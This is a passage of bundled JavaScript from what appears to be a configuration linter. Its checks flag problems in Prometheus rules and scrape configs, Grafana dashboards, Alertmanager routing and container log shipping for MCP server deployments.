        if (obj.kind === 'AlertmanagerConfig')
            add(obj.file, (0, yaml_tree_1.getNode)(obj.root, ['spec']), obj.loc);
    }
    for (const file of ctx.paths) {
        if (!/\.ya?ml$/i.test(file) || !/^\s*(receivers|alertmanager)\s*:/m.test(ctx.read(file) ?? ''))
            continue;
        for (const doc of ctx.yaml(file)?.documents ?? []) {
            if (doc.root?.kind !== 'map' || doc.root.entries.has('apiVersion'))
                continue;
            add(file, doc.root, doc.root.loc);
            // Helm values of kube-prometheus-stack: alertmanager.config.
            add(file, (0, yaml_tree_1.getNode)(doc.root, ['alertmanager', 'config']), doc.root.loc);
        }
    }
    return out;
}
/** Whether the route tree leads to at least one receiver that has a notification config. */
function routesToRealReceiver(am) {
    const real = new Set();
    if (Array.isArray(am.receivers)) {
        for (const r of am.receivers) {
            if (!(0, _rules_1.isRecord)(r) || typeof r.name !== 'string')
                continue;
            if (Object.entries(r).some(([k, v]) => /Configs$|_configs$/.test(k) && nonEmpty(v)))
                real.add(r.name);
        }
    }
    const reached = [];
    const walk = (route, depth) => {
        if (!(0, _rules_1.isRecord)(route) || depth > 20)
            return;
        if (typeof route.receiver === 'string')
            reached.push(route.receiver);
        if (Array.isArray(route.routes))
            route.routes.forEach((r) => walk(r, depth + 1));
    };
    walk(am.route, 0);
    return reached.some((r) => real.has(r));
}


/***/ }),

/***/ 34512:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _dashboard_panels_1 = __webpack_require__(32585);
const _rules_1 = __webpack_require__(54790);
/** Built-in pseudo datasources that exist in every Grafana. */
const BUILT_IN = new Set(['-- grafana --', '-- mixed --', '-- dashboard --', 'grafana', 'default', '']);
/** The hard-coded datasource name or uid a `datasource` value names, or undefined when it is a variable, a built-in or the default. */
function hardCoded(datasource) {
    const ref = typeof datasource === 'string' ? datasource : (0, _rules_1.isRecord)(datasource) ? datasource.uid : undefined;
    if (typeof ref !== 'string')
        return undefined;
    const v = ref.trim();
    if (v.startsWith('$') || v.startsWith('[[') || BUILT_IN.has(v.toLowerCase()))
        return undefined;
    return v;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/dashboard-datasource',
    target: 'grafana-dashboard',
    meta: {
        title: 'Dashboard hard-codes a datasource',
        category: 'operations',
        severity: 'info',
        rationale: 'A datasource uid or name baked into panels only exists in the Grafana the dashboard was exported from: provisioned into staging or prod, or after the datasource is recreated, the panels show "datasource not found" exactly when someone needs them.',
        remediation: 'Add a datasource template variable (`templating.list: [{ name: datasource, type: datasource, query: prometheus }]`) and reference it from panels and targets as `{"type": "prometheus", "uid": "${datasource}"}`; or export with "Export for sharing externally" to get `${DS_...}` inputs.',
        messages: {
            panel: 'panel "{{panel}}" uses hard-coded datasource "{{datasource}}" instead of a template variable',
            variable: 'template variable "{{variable}}" uses hard-coded datasource "{{datasource}}" instead of a template variable',
        },
    },
    check(ctx) {
        const dash = (0, yaml_tree_1.toPlain)(ctx.root);
        if (!(0, _rules_1.isRecord)(dash))
            return;
        for (const p of (0, _dashboard_panels_1.dashboardPanels)(dash)) {
            const candidates = [[p.panel.datasource, [...p.path, 'datasource']]];
            if (Array.isArray(p.panel.targets))
                p.panel.targets.forEach((t, ti) => (0, _rules_1.isRecord)(t) && candidates.push([t.datasource, [...p.path, 'targets', ti, 'datasource']]));
            for (const [ds, at] of candidates) {
                const datasource = hardCoded(ds);
                if (datasource === undefined)
                    continue;
                ctx.report({ messageId: 'panel', data: { panel: p.title, datasource }, at });
                break;
            }
        }
        const templating = (0, _rules_1.isRecord)(dash.templating) ? dash.templating.list : undefined;
        if (!Array.isArray(templating))
            return;
        templating.forEach((v, i) => {
            if (!(0, _rules_1.isRecord)(v) || v.type === 'datasource')
                return;
            const datasource = hardCoded(v.datasource);
            if (datasource === undefined)
                return;
            ctx.report({ messageId: 'variable', data: { variable: String(v.name ?? i + 1), datasource }, at: ['templating', 'list', i, 'datasource'] });
        });
    },
});


/***/ }),

/***/ 86576:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const list_services_1 = __webpack_require__(63251);
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _dashboard_panels_1 = __webpack_require__(32585);
const _rules_1 = __webpack_require__(54790);
const _scrape_coverage_1 = __webpack_require__(35832);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/dashboard-per-service',
    target: 'repository',
    meta: {
        title: 'MCP service has no Grafana dashboard',
        category: 'observability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'When an alert fires, on-call opens the dashboard to see which server, since when and how bad. A server that no panel, title or variable covers has to be debugged from raw PromQL at the worst moment, and regressions after a deploy go unseen. The roadmap asks for a panel per MCP service (health, tool-call rate, errors, resources).',
        remediation: 'Add the service to a provisioned dashboard: a panel whose query selects it (`up{job="mcp", mcp_server="mcp-fetch"}`), or a template variable whose query or values include it (e.g. `label_values(up{job="mcp"}, mcp_server)` when the job scrapes it).',
        messages: {
            missing: 'MCP service "{{service}}" appears in no Grafana dashboard ({{checked}}): no panel query, panel title or template variable selects it',
        },
    },
    check(ctx) {
        const all = (0, list_services_1.findMcpServices)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes });
        if (!all.length)
            return ctx.notApplicable();
        const dashboards = ctx.dashboards.map((d) => dashboardText((0, yaml_tree_1.toPlain)(d.root)));
        const jobs = (0, _scrape_coverage_1.scrapeJobsOf)(ctx.prometheusConfigs);
        const checked = ctx.dashboards.length
            ? `${ctx.dashboards.length} dashboard${ctx.dashboards.length === 1 ? '' : 's'} checked`
            : 'the repository has no dashboard JSON';
        for (const { first, deployments, hosts } of (0, list_services_1.servicesByName)(all)) {
            const jobNames = [...new Set(deployments.flatMap((s) => (0, _scrape_coverage_1.scrapersOf)(s, jobs, ctx.kubernetes).map((j) => j.job)))];
            if (dashboards.some((d) => covers(d, hosts, jobNames)))
                continue;
            ctx.report({ messageId: 'missing', data: { service: first.name, checked }, at: first.loc });
        }
    },
});
function dashboardText(dashboard) {
    const out = { texts: [], regexes: [] };
    if (!(0, _rules_1.isRecord)(dashboard))
        return out;
    const addAll = (v) => {
        if (typeof v === 'string')
            out.texts.push(v);
        else if (Array.isArray(v))
            v.forEach(addAll);
    };
    for (const { panel } of (0, _dashboard_panels_1.dashboardPanels)(dashboard)) {
        addAll(panel.title);
        if (!Array.isArray(panel.targets))
            continue;
        for (const t of panel.targets)
            if ((0, _rules_1.isRecord)(t))
                [t.expr, t.expression, t.query].forEach(addAll);
    }
    const list = (0, _rules_1.isRecord)(dashboard.templating) && Array.isArray(dashboard.templating.list) ? dashboard.templating.list : [];
    for (const v of list) {
        if (!(0, _rules_1.isRecord)(v))
            continue;
        addAll(v.definition);
        addAll((0, _rules_1.isRecord)(v.query) ? v.query.query : v.query);
        for (const holder of [v.current, ...(Array.isArray(v.options) ? v.options : [])])
            if ((0, _rules_1.isRecord)(holder))
                [holder.text, holder.value].forEach(addAll);
        for (const re of [v.regex, v.allValue])
            if (typeof re === 'string' && re)
                out.regexes.push(re.replace(/^\/(.*)\/[a-z]*$/, '$1'));
    }
    return out;
}
function covers(d, hosts, jobs) {
    const named = (text, name) => new RegExp(`(?<![\\w-])${escapeRegExp(name)}(?![\\w-])`, 'i').test(text);
    const matchers = d.texts.flatMap((t) => [...t.matchAll(/(\w+)\s*(=~|=)\s*"((?:[^"\\]|\\.)*)"/g)].map((m) => ({ label: m[1], op: m[2], value: m[3] })));
    if (d.texts.some((t) => hosts.some((h) => named(t, h))))
        return true;
    const regexes = [...d.regexes, ...matchers.filter((m) => m.op === '=~').map((m) => m.value)];
    if (regexes.some((re) => !isWildcard(re) && hosts.some((h) => fullMatch(re, h))))
        return true;
    return matchers.some((m) => m.label === 'job' && jobs.some((j) => (m.op === '=' ? m.value === j : !isWildcard(m.value) && fullMatch(m.value, j))));
}
function isWildcard(re) {
    return re.includes('$') || /^(\.[*+]\??)?$/.test(re.trim());
}
function fullMatch(source, text) {
    try {
        return new RegExp(`^(?:${source.replace(/\\\\/g, '\\')})$`).test(text);
    }
    catch {
        return false;
    }
}
function escapeRegExp(s) {
    return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}


/***/ }),

/***/ 99471:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _dashboard_panels_1 = __webpack_require__(32585);
const _rules_1 = __webpack_require__(54790);
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/dashboard-valid',
    target: 'grafana-dashboard',
    meta: {
        title: 'Grafana dashboard is incomplete or inconsistent',
        category: 'observability',
        severity: 'warning',
        rationale: 'Provisioned dashboards without a `uid` get a new random one on every import, breaking links from alerts and runbooks; without a title or schemaVersion Grafana rejects or silently migrates them; duplicate panel ids make Grafana drop or merge panels, and panels without gridPos are stacked unpredictably, so the MCP overview people open during an incident is not the one that was reviewed.',
        remediation: 'Export the dashboard from Grafana ("Export for sharing externally" off) or fix the JSON: set `title`, a stable `uid`, `schemaVersion`, unique panel `id`s, and a `gridPos` on every panel.',
        messages: {
            noTitle: 'dashboard has no title',
            noUid: 'dashboard "{{title}}" has no uid, so its URL changes on every import',
            noSchemaVersion: 'dashboard "{{title}}" has no numeric schemaVersion',
            duplicatePanelId: 'panel "{{panel}}" reuses panel id {{id}} (first used by panel "{{first}}")',
            noGridPos: 'panel "{{panel}}" has no gridPos',
        },
    },
    check(ctx) {
        const dash = (0, yaml_tree_1.toPlain)(ctx.root);
        if (!(0, _rules_1.isRecord)(dash))
            return;
        const title = typeof dash.title === 'string' ? dash.title.trim() : '';
        const name = title || '(untitled)';
        if (!title)
            ctx.report({ messageId: 'noTitle', at: dash.title !== undefined ? ['title'] : [] });
        if (typeof dash.uid !== 'string' || dash.uid.trim() === '')
            ctx.report({ messageId: 'noUid', data: { title: name }, at: dash.uid !== undefined ? ['uid'] : [] });
        if (typeof dash.schemaVersion !== 'number')
            ctx.report({ messageId: 'noSchemaVersion', data: { title: name }, at: dash.schemaVersion !== undefined ? ['schemaVersion'] : [] });
        // Files are recognised as dashboards by their `panels` array, so there is no "panels is not an array" case to report.
        // gridPos arrived with schemaVersion 16 (Grafana 5); older dashboards lay out by rows.
        const usesGridPos = typeof dash.schemaVersion !== 'number' || dash.schemaVersion >= 16;
        const ids = new Map();
        for (const p of (0, _dashboard_panels_1.dashboardPanels)(dash)) {
            const id = p.panel.id;
            if (typeof id === 'number') {
                const first = ids.get(id);
                if (first !== undefined)
                    ctx.report({ messageId: 'duplicatePanelId', data: { panel: p.title, id, first }, at: [...p.path, 'id'] });
                else
                    ids.set(id, p.title);
            }
            if (usesGridPos && !(0, _rules_1.isRecord)(p.panel.gridPos))
                ctx.report({ messageId: 'noGridPos', data: { panel: p.title }, at: p.panel.gridPos !== undefined ? [...p.path, 'gridPos'] : p.path });
        }
    },
});


/***/ }),

/***/ 49400:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _rules_1 = __webpack_require__(54790);
const _series_overlap_1 = __webpack_require__(7770);
function labelKey(labels) {
    if (!(0, _rules_1.isRecord)(labels))
        return '{}';
    return JSON.stringify(Object.keys(labels)
        .sort()
        .map((k) => [k, String(labels[k])]));
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/duplicate-rule',
    target: 'prometheus-rules',
    meta: {
        title: 'Duplicate rule group or rule',
        category: 'correctness',
        severity: 'error',
        rationale: 'Prometheus rejects a rule file whose group names repeat, so every rule in it stops evaluating. Two rules with the same name and the same labels in a group are a copy-paste slip: duplicate recording rules write conflicting series (promtool\'s duplicate-rules lint) and duplicate alerts page twice or mask a changed threshold. Recording rules of the same name whose series cannot meet are not duplicates: a label both keep (`sum by (code)`) with matchers that exclude each other (`code=~"2.."` and `code=~"3.."`); when stackgate cannot follow the labels through an expression it does not report the pair.',
        remediation: 'Rename or merge the duplicate group; delete the duplicate rule, or give the variants distinct labels (for example `severity: warning` and `severity: critical` with different thresholds).',
        messages: {
            duplicateGroup: 'group name "{{group}}" is already used on line {{line}}; Prometheus rejects the file',
            duplicateRule: '{{kind}} "{{name}}" with the same labels is already defined on line {{line}} in group "{{group}}"',
        },
    },
    check(ctx) {
        const groupLines = new Map();
        for (const g of (0, _rules_1.ruleGroups)(ctx.root)) {
            if (typeof g.name === 'string') {
                const first = groupLines.get(g.name);
                if (first !== undefined)
                    ctx.report({ messageId: 'duplicateGroup', data: { group: g.name, line: first }, at: [...g.path, 'name'] });
                else
                    groupLines.set(g.name, lineOf(ctx.root, [...g.path, 'name']));
            }
            const seen = new Map();
            for (const r of (0, _rules_1.rulesOf)(g)) {
                if (!r.kind || !r.name)
                    continue;
                const key = `${r.kind}\u0000${r.name}\u0000${labelKey(r.rule.labels)}`;
                const earlier = seen.get(key) ?? [];
                const clash = r.kind === 'record' ? earlier.find((e) => recordsClash(e.rule, r.rule)) : earlier[0];
                if (clash) {
                    ctx.report({
                        messageId: 'duplicateRule',
                        data: { kind: r.kind, name: r.name, line: clash.line, group: String(g.name ?? g.index + 1) },
                        at: [...r.path, r.kind],
                    });
                }
                seen.set(key, [...earlier, { line: lineOf(ctx.root, [...r.path, r.kind]), rule: r.rule }]);
            }
        }
    },
});
/**
 * Two recording rules of the same name and labels write the same series unless their expressions
 * keep them apart (_series-overlap.ts); an expression that cannot be followed is given the benefit of the doubt.
 */
function recordsClash(a, b) {
    if (typeof a.expr !== 'string' || typeof b.expr !== 'string')
        return true;
    if (a.expr.replace(/\s+/g, ' ').trim() === b.expr.replace(/\s+/g, ' ').trim())
        return true;
    const labels = (0, _rules_1.isRecord)(a.labels) ? Object.keys(a.labels) : [];
    return (0, _series_overlap_1.seriesOverlap)(a.expr, b.expr, labels).verdict === 'overlap';
}
function lineOf(root, path) {
    const node = (0, yaml_tree_1.getNode)(root, path);
    return node?.keyLoc?.line ?? node?.loc.line ?? 0;
}


/***/ }),

/***/ 45853:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const list_services_1 = __webpack_require__(63251);
const objects_1 = __webpack_require__(35704);
const yaml_tree_1 = __webpack_require__(43183);
const missing_location_1 = __webpack_require__(74521);
const types_1 = __webpack_require__(15200);
const _relabel_1 = __webpack_require__(6896);
const _rules_1 = __webpack_require__(54790);
/** Compose logging drivers that send logs off the host. */
const SHIPPING_DRIVERS = new Set(['loki', 'fluentd', 'gelf', 'syslog', 'awslogs', 'splunk', 'gcplogs', 'logentries', 'etwlogs']);
const SHIPPER_IMAGES = /(^|\/)(promtail|alloy|fluent-bit|fluentd|vector|opentelemetry-collector(-contrib)?|otel-collector|filebeat|logstash)$|^grafana\/agent$/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/log-shipping',
    target: 'repository',
    meta: {
        title: 'Container logs are not shipped off the host',
        category: 'observability',
        severity: 'warning',
        operatedOnly: true,
        rationale: 'Container logs live in json-file logs on each endpoint: rotated away after a few megabytes, gone with the container, unreachable when the host is down, and impossible to search across nine MCP servers. A log shipper (Promtail to Loki, Grafana Alloy, Fluent Bit, Vector) keeps them for the incident review; when it discovers containers by label, a service without the label is silently left out.',
        remediation: 'Deploy a shipper with its config in the repository, e.g. Promtail with `docker_sd_configs` pushing to Loki; when its job filters or keeps containers by a label (`filters: [{name: label, values: [com.mcp.type]}]`), give every service that label.',
        messages: {
            noShipper: 'no log shipper configuration found (Promtail, Grafana Alloy or Agent, Fluent Bit, Fluentd, Vector, an OpenTelemetry logs pipeline, or a Compose logging driver such as loki); container logs stay on each host',
            unlabelled: 'service "{{service}}" (stack {{stack}}) is not selected by the log shipper: {{file}} job "{{job}}" only reads containers with {{labels}}',
        },
    },
    check(ctx) {
        const services = (0, list_services_1.listServices)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes });
        if (!services.length)
            return ctx.notApplicable();
        // Every environment's version of a service: an override may drop the label the shipper keys on.
        const compose = services.filter((s) => s.platform === 'compose');
        const { found, dockerJobs, readsAllContainers } = findShippers(ctx);
        const byDriver = compose.filter(shipsByDriver);
        const shipperWorkload = ctx.kubernetes.some((o) => (0, objects_1.containersOf)(o).some((c) => typeof c.value.image === 'string' && SHIPPER_IMAGES.test((0, list_services_1.imageRepository)(c.value.image))));
        const shipperService = compose.some((s) => s.images.some((i) => SHIPPER_IMAGES.test((0, list_services_1.imageRepository)(i))));
        if (!found && !shipperWorkload && !(compose.length && byDriver.length === compose.length)) {
            // A shipper is asked of a repository that deploys MCP servers; elsewhere, only one that is there is checked.
            if (!(0, list_services_1.deploysMcpServers)({ config: ctx.config, compose: ctx.compose, kubernetes: ctx.kubernetes }))
                return ctx.notApplicable();
            // A shipper container whose config is not in the repository still ships; it cannot be checked further.
            if (!shipperService)
                ctx.report({ messageId: 'noShipper', at: (0, missing_location_1.missingLocation)(ctx) });
            return;
        }
        const selective = dockerJobs.filter((j) => j.sds.some((sd) => (0, _relabel_1.dockerFilterLabels)(sd).length) || (0, _relabel_1.keptLabels)(j.config.relabel_configs, '__meta_docker_container_label_').length);
        if (readsAllContainers || !selective.length || selective.length < dockerJobs.length)
            return;
        for (const s of compose) {
            if (shipsByDriver(s) || selective.some((j) => accepts(j, s)))
                continue;
            const job = selective[0];
            const labels = [
                ...job.sds.flatMap(_relabel_1.dockerFilterLabels).map((l) => `label ${l}`),
                ...(0, _relabel_1.keptLabels)(job.config.relabel_configs, '__meta_docker_container_label_').map((k) => `${k.label} matching "${k.regex}"`),
            ];
            ctx.report({
                messageId: 'unlabelled',
                data: { service: s.name, stack: s.stack ?? '', file: job.file, job: job.job, labels: labels.join(' and ') },
                at: s.loc,
            });
        }
    },
});
function shipsByDriver(s) {
    const logging = s.value.logging;
    return (0, _rules_1.isRecord)(logging) && typeof logging.driver === 'string' && SHIPPING_DRIVERS.has(logging.driver);
}
function accepts(job, s) {
    const labels = { ...s.labels, 'com.docker.compose.service': s.name };
    const containerName = typeof s.value.container_name === 'string' ? s.value.container_name : undefined;
    return job.sds.some((sd) => (0, _relabel_1.passesDockerFilters)(sd, labels)) && (0, _relabel_1.survivesRelabel)(job.config.relabel_configs, (0, _relabel_1.dockerMetaResolver)(labels, containerName));
}
function findShippers(ctx) {
    let found = false;
    let readsAllContainers = false;
    const dockerJobs = [];
    for (const file of ctx.paths) {
        const base = file.split('/').pop().toLowerCase();
        if (/\.(alloy|river)$/.test(base) || /^(fluent-bit|fluentbit|fluent|td-agent|vector)\.(conf|ya?ml|toml|json)$/.test(base)) {
            found = true;
            continue;
        }
        if (/\.conf$/.test(base)) {
            const text = ctx.read(file) ?? '';
            if ((/^\s*\[OUTPUT\]/im.test(text) && /^\s*\[INPUT\]/im.test(text)) || (/<match\s/.test(text) && /<source>/.test(text)))
                found = true;
            continue;
        }
        if (/\.toml$/.test(base)) {
            if (/^\s*\[sinks\./m.test(ctx.read(file) ?? ''))
                found = true;
            continue;
        }
        if (!/\.ya?ml$/.test(base))
            continue;
        const text = ctx.read(file) ?? '';
        if (!/^(clients|positions|logs|sinks|service|loki)\s*:/m.test(text))
            continue;
        for (const doc of ctx.yaml(file)?.documents ?? []) {
            const v = (0, yaml_tree_1.toPlain)(doc.root);
            if (!(0, _rules_1.isRecord)(v))
                continue;
            const service = (0, _rules_1.isRecord)(v.service) && (0, _rules_1.isRecord)(v.service.pipelines) ? v.service.pipelines : undefined;
            if (((0, _rules_1.isRecord)(v.logs) && Array.isArray(v.logs.configs)) ||
                ((0, _rules_1.isRecord)(v.sinks) && (0, _rules_1.isRecord)(v.sources)) ||
                (service && Object.keys(service).some((k) => k.startsWith('logs')))) {
                found = true;
                continue;
            }
            if (!Array.isArray(v.scrape_configs) || !('clients' in v || 'positions' in v || 'client' in v))
                continue;
            found = true;
            v.scrape_configs.forEach((job, i) => {
                if (!(0, _rules_1.isRecord)(job))
                    return;
                const sds = Array.isArray(job.docker_sd_configs) ? job.docker_sd_configs.filter(_rules_1.isRecord) : [];
                if (sds.length)
                    dockerJobs.push({ file, job: typeof job.job_name === 'string' ? job.job_name : `#${i + 1}`, config: job, sds });
                const paths = Array.isArray(job.static_configs)
                    ? job.static_configs.flatMap((s) => ((0, _rules_1.isRecord)(s) && (0, _rules_1.isRecord)(s.labels) ? [s.labels.__path__] : []))
                    : [];
                if (paths.some((p) => typeof p === 'string' && /docker\/containers/.test(p)))
                    readsAllContainers = true;
            });
        }
    }
    return { found, dockerJobs, readsAllContainers };
}


/***/ }),

/***/ 27602:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
/** Reported by the engine while building the effective stacks. */
exports["default"] = (0, types_1.defineEngineCheck)({
    id: 'monitoring/promtool',
    engine: 'promtool',
    meta: {
        title: 'promtool rejects the Prometheus file',
        category: 'correctness',
        severity: 'error',
        rationale: 'Prometheus refuses to load rule or config files that promtool rejects, so alerts silently stop.',
        remediation: 'Fix the error promtool reports; run "promtool check rules <file>" or "promtool check config <file>" locally.',
        messages: { failed: 'promtool check {{mode}}: {{detail}}', unavailable: 'promtool is required by monitoring.promtool: always but is not installed' },
    },
});


/***/ }),

/***/ 91456:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _rules_1 = __webpack_require__(54790);
const METRIC_NAME = /^[a-zA-Z_:][a-zA-Z0-9_:]*$/;
/** level:metric:operations, e.g. job:http_requests:rate5m or instance_path:requests:rate5m. */
const CONVENTION = /^[a-zA-Z_][a-zA-Z0-9_]*:[a-zA-Z_][a-zA-Z0-9_]*(:[a-zA-Z0-9_]+)+$/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/recording-rule-name',
    target: 'prometheus-rules',
    meta: {
        title: 'Recording rule name does not follow level:metric:operations',
        category: 'observability',
        severity: 'info',
        rationale: 'The Prometheus naming convention `level:metric:operations` tells a dashboard author what a recorded series aggregates over and how, and keeps recorded series apart from raw ones; an invalid metric name makes Prometheus reject the file.',
        remediation: 'Name the rule after its aggregation level, the metric and the operations, e.g. `job:mcp_requests:rate5m` for `sum by (job) (rate(mcp_requests_total[5m]))`.',
        messages: {
            invalid: 'record "{{name}}" is not a valid metric name',
            convention: 'record "{{name}}" does not follow the level:metric:operations convention',
        },
    },
    check(ctx) {
        for (const r of (0, _rules_1.allRules)(ctx.root)) {
            if (r.kind !== 'record' || !r.name)
                continue;
            const at = [...r.path, 'record'];
            if (!METRIC_NAME.test(r.name))
                ctx.report({ messageId: 'invalid', data: { name: r.name }, at });
            else if (!CONVENTION.test(r.name))
                ctx.report({ messageId: 'convention', data: { name: r.name }, at });
        }
    },
});


/***/ }),

/***/ 3255:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _promql_lexer_1 = __webpack_require__(5313);
const _rules_1 = __webpack_require__(54790);
function describeRule(r) {
    if (r.kind && r.name)
        return `${r.kind} "${r.name}"`;
    return `rule ${r.index + 1} of group "${typeof r.group.name === 'string' ? r.group.name : r.group.index + 1}"`;
}
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/rule-expression',
    target: 'prometheus-rules',
    meta: {
        title: 'Rule expression is missing or malformed',
        category: 'correctness',
        severity: 'error',
        rationale: 'Prometheus refuses to load a rule file with one unparsable expression, so every alert in it silently stops firing after the next reload. promtool catches this when installed (see monitoring/promtool); this check catches missing expressions and unbalanced brackets or quotes without it.',
        remediation: 'Fix the expression (and test it in the Prometheus UI or with `promtool check rules`); every alerting and recording rule needs a non-empty `expr`.',
        messages: {
            missing: '{{rule}} has no expr',
            empty: '{{rule}} has an empty expr',
            notString: '{{rule}} has an expr that is not a string',
            malformed: '{{rule}} expr is malformed: {{problem}}',
        },
    },
    check(ctx) {
        for (const r of (0, _rules_1.allRules)(ctx.root)) {
            const expr = r.rule.expr;
            const rule = describeRule(r);
            if (expr === undefined) {
                ctx.report({ messageId: 'missing', data: { rule }, at: r.kind ? [...r.path, r.kind] : r.path });
                continue;
            }
            const at = [...r.path, 'expr'];
            if (typeof expr === 'number')
                continue;
            if (expr === null || (typeof expr === 'string' && expr.trim() === '')) {
                ctx.report({ messageId: 'empty', data: { rule }, at });
                continue;
            }
            if (typeof expr !== 'string') {
                ctx.report({ messageId: 'notString', data: { rule }, at });
                continue;
            }
            const problem = (0, _promql_lexer_1.findExpressionProblem)(expr);
            if (problem)
                ctx.report({ messageId: 'malformed', data: { rule, problem }, at });
        }
    },
});


/***/ }),

/***/ 76381:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const yaml_tree_1 = __webpack_require__(43183);
const types_1 = __webpack_require__(15200);
const _prometheus_duration_1 = __webpack_require__(59066);
const _rules_1 = __webpack_require__(54790);
const DEFAULT_SCRAPE_INTERVAL_MS = 60_000;
const HAS_PORT = /^\[[^\]]+\]:\d+$|^[^:[\]]+:\d+$/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'monitoring/scrape-config',
    target: 'prometheus-config',
    meta: {
        title: 'Scrape configuration problem',
        category: 'observability',
        severity: 'warning',
        rationale: 'Prometheus refuses a config with a missing or duplicated job_name, or a scrape_timeout longer than the interval, and keeps running the old config after a reload, so new MCP services are never scraped. A static target without a port is scraped on port 80 (or 443), which exporters rarely listen on: the target shows as down and its alerts never fire.',
        remediation: 'Give every scrape config a unique `job_name`, keep `scrape_timeout` at or below `scrape_interval`, and write static targets as `host:port` (e.g. `mcp-server:9464`).',
        messages: {
            missingJob: 'scrape config #{{index}} has no job_name',
            duplicateJob: 'job_name "{{job}}" is already used on line {{line}}',
            timeoutAboveInterval: '{{scope}} scrape_timeout {{timeout}} is longer than its scrape_interval {{interval}}',
            evaluationFaster: 'evaluation_interval {{evaluation}} is shorter than scrape_interval {{interval}}: rules re-evaluate the same samples',
            targetNoPort: 'static target "{{target}}" in job "{{job}}" has no port, so Prometheus scrapes the scheme\'s default port',
        },
    },
    check(ctx) {
        const global = (0, yaml_tree_1.toPlain)((0, yaml_tree_1.getNode)(ctx.root, ['global']));
        const g = (0, _rules_1.isRecord)(global) ? global : {};
        const globalInterval = (0, _prometheus_duration_1.parsePrometheusDurationMs)(g.scrape_interval) ?? DEFAULT_SCRAPE_INTERVAL_MS;
        const globalTimeout = (0, _prometheus_duration_1.parsePrometheusDurationMs)(g.scrape_timeout);
        if (globalTimeout !== undefined && globalTimeout > globalInterval) {
            ctx.report({
                messageId: 'timeoutAboveInterval',
                data: { scope: 'global', timeout: String(g.scrape_timeout), interval: String(g.scrape_interval ?? '1m') },
                at: ['global', 'scrape_timeout'],
            });
        }
        const evaluation = (0, _prometheus_duration_1.parsePrometheusDurationMs)(g.evaluation_interval);
        if (evaluation !== undefined && evaluation > 0 && evaluation < globalInterval) {
            ctx.report({
                messageId: 'evaluationFaster',
                data: { evaluation: String(g.evaluation_interval), interval: String(g.scrape_interval ?? '1m') },
                at: ['global', 'evaluation_interval'],
            });
        }
        const configs = (0, yaml_tree_1.toPlain)((0, yaml_tree_1.getNode)(ctx.root, ['scrape_configs']));
        if (!Array.isArray(configs))
            return;
        const jobLines = new Map();
        configs.forEach((c, i) => {
            if (!(0, _rules_1.isRecord)(c))
                return;
            const path = ['scrape_configs', i];
            const job = typeof c.job_name === 'string' && c.job_name.trim() !== '' ? c.job_name : undefined;
            if (!job)
                ctx.report({ messageId: 'missingJob', data: { index: i + 1 }, at: c.job_name !== undefined ? [...path, 'job_name'] : path });
            else {
                const first = jobLines.get(job);
                const node = (0, yaml_tree_1.getNode)(ctx.root, [...path, 'job_name']);
                if (first !== undefined)
                    ctx.report({ messageId: 'duplicateJob', data: { job, line: first }, at: [...path, 'job_name'] });
                else
                    jobLines.set(job, node?.keyLoc?.line ?? node?.loc.line ?? 0);
            }
            const interval = (0, _prometheus_duration_1.parsePrometheusDurationMs)(c.scrape_interval) ?? globalInterval;
            const timeout = (0, _prometheus_duration_1.parsePrometheusDurationMs)(c.scrape_timeout);
            if (timeout !== undefined && timeout > interval) {
                ctx.report({
                    messageId: 'timeoutAboveInterval',
                    data: { scope: `job "${job ?? i + 1}"`, timeout: String(c.scrape_timeout), interval: String(c.scrape_interval ?? g.scrape_interval ?? '1m') },
                    at: [...path, 'scrape_timeout'],
                });
            }
            // Relabelling can rewrite __address__ (the blackbox exporter pattern); ports are then not ours to judge.
            const relabels = Array.isArray(c.relabel_configs) ? c.relabel_configs : [];
            if (relabels.some((r) => (0, _rules_1.isRecord)(r) && r.target_label === '__address__'))
                return;
            const statics = Array.isArray(c.static_configs) ? c.static_configs : [];
            statics.forEach((s, si) => {
                if (!(0, _rules_1.isRecord)(s) || !Array.isArray(s.targets))
                    return;
                s.targets.forEach((t, ti) => {
                    if (typeof t !== 'string' || t === '' || HAS_PORT.test(t))
                        return;
                    ctx.report({ messageId: 'targetNoPort', data: { target: t, job: job ?? String(i + 1) }, at: [...path, 'static_configs', si, 'targets', ti] });
                });
            });
        });
    },
});


/***/ }),

/***/ 92490:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const list_services_1 = __webpack_require__(63251);
const types_1 = __webpack_require__(15200);
